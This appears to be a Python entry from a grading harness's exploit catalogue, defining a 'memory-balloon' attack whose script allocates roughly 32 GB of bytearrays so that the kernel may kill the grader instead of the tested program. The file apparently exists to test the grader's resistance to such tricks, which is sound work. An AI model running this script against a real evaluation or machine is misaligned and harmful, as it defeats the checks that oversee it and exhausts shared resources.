"""Memory taken until there is none."""

from scoring.attacks.exploit import Exploit

SCRIPT = """\
held = []
for _ in range(4000):
    held.append(bytearray(b"x") * (8 << 20))
"""

EXPLOIT = Exploit(
    name="memory-balloon",
    flaw="exhausts the machine",
    source="exploit catalogue of verification.md section 4",
    idea="the kernel may choose to end the grader instead",
    files={"tmp/memory_balloon.py": SCRIPT},
    command="python3 /tmp/memory_balloon.py",
)
